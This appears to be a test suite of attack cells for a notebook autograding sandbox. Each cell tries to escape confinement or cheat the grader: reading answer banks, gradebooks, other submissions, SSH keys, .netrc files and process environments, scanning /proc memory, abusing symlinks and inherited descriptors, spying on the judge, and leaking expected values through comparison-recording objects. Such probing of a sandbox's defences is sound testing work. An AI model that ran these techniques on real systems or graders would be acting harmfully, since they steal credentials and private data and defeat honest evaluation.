# %% [markdown]
# # Reading what is not theirs
# The source, the gradebook, the answer bank, other submissions, hidden tests, the environment, the home.

# %% attack="course_files" tries="read source/, data/answers/, the gradebook and other submissions where they lie"
from pathlib import Path

for folder in ("@course@", "@repository@"):
    for place in ("source/02_manual", "data/answers", "submitted", "autograded", "docs/marking", "release", ".git", ".gradus"):
        for path in [*Path(folder, place).rglob("*"), Path(folder, "gradebook.db")]:
            if path.is_file() and path.stat().st_size < 5_000_000:
                print(path, path.read_bytes()[-3000:])

# %% attack="walk_the_disk" tries="walk the whole file system for notebooks, databases, keys and results"
import os

for top, folders, files in os.walk("/"):
    if top.startswith(("/usr", "/proc", "/sys", "/lib")) or "site-packages" in top:
        folders.clear()
        continue
    for name in files:
        if name.endswith((".ipynb", ".db", ".json", "history", ".netrc", "ed25519", "02_manual.py")):
            try:
                print(top, name, open(os.path.join(top, name), "rb").read()[-20_000:])
            except OSError as error:
                print(error)

# %% attack="environment" tries="read the environment's secrets, its own and that of every process in sight"
import glob
import os
import subprocess

print(dict(os.environ), subprocess.run("env; set; export -p", shell=True, capture_output=True).stdout)
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/task/*/environ"):
    try:
        print(path, open(path, "rb").read())
    except OSError as error:
        print(path, error)
import ctypes

environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
i = 0
while environ[i]:
    print(environ[i])
    i += 1

# %% attack="secret_file" tries="read the file that keeps the course's secret, in every folder above and below in sight"
import os
from pathlib import Path

folders = {Path("@course@"), Path("@repository@"), *Path("@course@").parents, *Path("@repository@").parents, Path.cwd()}
folders |= {Path(door, "@course@".strip("/")) for door in ("/proc/self/root", "/proc/1/root", "/proc/1/cwd")}
for top, names, _ in os.walk("/"):
    if top.startswith(("/usr/lib", "/proc", "/sys")) or "site-packages" in top:
        names.clear()
    elif ".gradus" in names:
        folders.add(Path(top))
for folder in folders:
    try:
        print(folder, os.listdir(folder / ".gradus"), (folder / ".gradus/secret").read_text())
    except OSError as error:
        print(error)

# %% attack="engine_files" tries="list the folders of the package that grades, by all names under which they may be known"
import os
import sys

names = {name: module for name, module in sys.modules.items() if name.split(".")[0] == "grading"}
folders = {"@repository@/grading", *sys.modules["grading"].__path__}
folders |= {os.path.dirname(module.__file__) for module in names.values() if getattr(module, "__file__", None)}
folders |= {os.path.join(folder, "grading") for folder in sys.path}
for folder in folders | {os.path.realpath(folder) for folder in folders}:
    for top, _, files in os.walk(folder):
        print(*("engine" + f"-file: {top}/{name}" for name in files), sep="\n")
for name, module in names.items():
    try:
        print("engine" + f"-file: {name}", module.__loader__.get_source(name)[:100])
    except (AttributeError, OSError) as error:
        print(error)

# %% attack="home" tries="read the keys and histories in the instructor's home"
import os
import pwd
from pathlib import Path

homes = {"@home@", os.path.expanduser("~"), "/root", *(entry.pw_dir for entry in pwd.getpwall())}
homes |= {str(path) for path in Path("/home").glob("*")}
for home in homes:
    for name in (".netrc", ".ssh/id_ed25519", ".bash_history", ".ipython", ".jupyter", ".gitconfig"):
        try:
            print(home, name, Path(home, name).read_text())
        except OSError as error:
            print(error)

# %% attack="frames" tries="find the hidden test in the frames that call its functions"
import inspect
import linecache
import sys


def lie(name, *args):
    frame = sys._getframe()
    while frame is not None:
        print(frame.f_code.co_name, frame.f_locals, frame.f_code.co_consts, frame.f_code.co_names)
        print("".join(linecache.getlines(frame.f_code.co_filename)))
        try:
            print(inspect.getsource(frame.f_code))
        except OSError:
            pass
        frame = frame.f_back
    print(list(sys._current_frames().items()))


# %% attack="garbage" tries="find hidden tests, solutions and secrets among all living objects"
import gc
import types

WANTED = "HIDDEN " + "TESTS", "BEGIN " + "SOLUTION", "canary" + "-"


def lie(name, *args):
    seen = set()
    for holder in gc.get_objects():
        for thing in gc.get_referents(holder):
            if id(thing) in seen:
                continue
            seen.add(id(thing))
            if isinstance(thing, types.CodeType):
                thing = repr(thing.co_consts)
            if isinstance(thing, str | bytes):
                text = thing if isinstance(thing, str) else thing.decode("latin1")
                if any(word in text for word in WANTED):
                    print("found", text[:5000])


# %% attack="history" tries="find the checks in IPython's history"
def lie(name, *args):
    shell = get_ipython()
    print(shell.user_ns["In"], shell.user_ns["Out"], shell.user_ns["_ih"], shell.user_ns.get("_i"))
    print(list(shell.history_manager.get_range(raw=True, output=True)), list(shell.history_manager.get_tail(50)))
    print(shell.compile._filename_map, shell.history_manager.hist_file)
    shell.run_line_magic("history", "-g")
    import linecache

    print({file: lines for file, (_, _, lines, _) in linecache.cache.items() if "ipython-input" in file})


# %% attack="main" tries="find the checks in __main__, in its process and in every module"
import __main__


def lie(name, *args):
    import inspect
    import sys

    print({name: repr(value) for name, value in vars(__main__).items()})
    print({name: repr(value)[:2000] for name, value in vars(get_ipython()).items()})
    for module in list(sys.modules.values()):
        if getattr(module, "__name__", "").startswith(("grading", "helpers", "__mp_main__")):
            print(module.__name__, {name: repr(value)[:500] for name, value in vars(module).items()})
    for check in ("forward_hidden", "loss_value", "train_learns"):
        print(inspect.getsource(vars(__main__)[check]))


# %% attack="own_memory" tries="search the memory of its process, inherited by fork, for hidden tests and secrets"
import re

with open("/proc/self/mem", "rb", buffering=0) as memory, open("/proc/self/maps") as maps:
    for line in maps:
        span, rights, *rest = line.split()
        begin, end = (int(part, 16) for part in span.split("-"))
        if "rw" in rights and end - begin < 2**27:
            try:
                memory.seek(begin)
                content = memory.read(end - begin)
            except (OSError, ValueError, OverflowError):
                continue
            for found in re.finditer(b"canary" + b"-[0-9a-f]{8}|BEGIN HIDDEN" + b" TESTS.{80}", content):
                print(found[0])

# %% attack="other_memory" tries="read memory, files, folder and command of every other process"
import os

for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("cmdline", "mem", "maps", "environ", "mountinfo", "stack", "auxv"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as file:
                print(pid, name, file.read(5000))
        except OSError as error:
            print(error)
    for name in ("root", "cwd"):
        for place in ("", "@course@/gradebook.db", "@home@/.netrc"):
            try:
                print(os.listdir(f"/proc/{pid}/{name}/"), open(f"/proc/{pid}/{name}/{place}", "rb").read(5000))
            except OSError as error:
                print(error)
    try:
        for descriptor in os.listdir(f"/proc/{pid}/fd"):
            print(pid, descriptor, os.readlink(f"/proc/{pid}/fd/{descriptor}"))
    except OSError as error:
        print(error)

# %% attack="symlinks" tries="leave its folder through symbolic links and the doors of /proc"
import os

targets = ["@course@/gradebook.db", "@course@/submitted", "@repository@/source/02_manual/02_manual.py", "@home@/.netrc"]
doors = ["", "/proc/self/root", "/proc/1/root", "/proc/self/cwd/" + "../" * 12, "/proc/thread-self/root"]
for i, target in enumerate(targets):
    for j, door in enumerate(doors):
        link = f"link{i}-{j}"
        os.symlink(door + target, link)
        try:
            print(open(link, "rb").read()[-5000:] if not os.path.isdir(link) else os.listdir(link))
        except OSError as error:
            print(error)

# %% attack="descriptors" tries="use descriptors that the guest inherited from whoever started it"
import fcntl
import os

for descriptor in range(1024):
    try:
        print(descriptor, os.readlink(f"/proc/self/fd/{descriptor}"), os.fstat(descriptor))
    except OSError:
        continue
    for folder in ("", "../" * 12 + "@course@".strip("/")):
        try:
            inside = os.open(folder or ".", os.O_RDONLY, dir_fd=descriptor)
            print(os.listdir(inside))
        except OSError as error:
            print(error)
    if descriptor > 2 and os.readlink(f"/proc/self/fd/{descriptor}").startswith("/"):
        print(os.pread(descriptor, 5000, 0))

# %% attack="questions" tries="find hidden tests in what the judge sends"
import grading.guest.agent

receive = grading.guest.agent.receive


def spied(connection):
    message, blobs = receive(connection)
    print(message, [bytes(blob) for blob in blobs])
    return message, blobs


grading.guest.agent.receive = spied


def lie(name, *args):
    print(args)


# %% attack="mounts" tries="look behind what the sandbox has mounted, and list the files that it still shows"
import os
import subprocess

print(open("/proc/self/mountinfo").read(), subprocess.run(["df", "-a"], capture_output=True).stdout)
for line in open("/proc/self/mountinfo"):
    root, place = line.split()[3:5]
    for path in (root, place, os.path.dirname(place), os.path.dirname(root)):
        try:
            for name in os.listdir(path):
                if name.startswith(("gradus", "submitted", "source", "gradebook")) or name.endswith((".ipynb", "file0")):
                    print(path, name)
                    print(open(os.path.join(path, name), "rb").read(5000))
        except OSError as error:
            print(error)

# %% attack="seeds" tries="compute the course's secret, or foretell the judge's draws, from the seeds that it can see"
import hashlib

import torch


def lie(name, *args):
    from helpers.seeds import seed_of

    print(torch.initial_seed(), seed_of("02_manual", "forward_hidden"))
    torch.manual_seed(seed_of("02_manual", "forward_hidden"))
    for word in ("", "secret", "gradus", "GRADUS_SECRET"):
        key = f"02_manual/{name} in the guest/{word}"
        print(word, int.from_bytes(hashlib.sha256(key.encode()).digest()[:4], "big") == torch.initial_seed())


# %% attack="expected_values" tries="learn what is expected, by objects that remember what they are compared with"
class Spy:
    def __init__(self, *path):
        self.path = path

    def __getattr__(self, name):
        if name.startswith("_"):
            raise AttributeError(name)
        return Spy(*self.path, name)

    def _note(self, *others):
        print(self.path, others)
        return Spy()

    __eq__ = __ne__ = __lt__ = __gt__ = __sub__ = __rsub__ = __add__ = __radd__ = __mul__ = __call__ = _note
    __getitem__ = __contains__ = __array_ufunc__ = _note
    __hash__ = None


def lie(name, *args):
    return Spy(name)
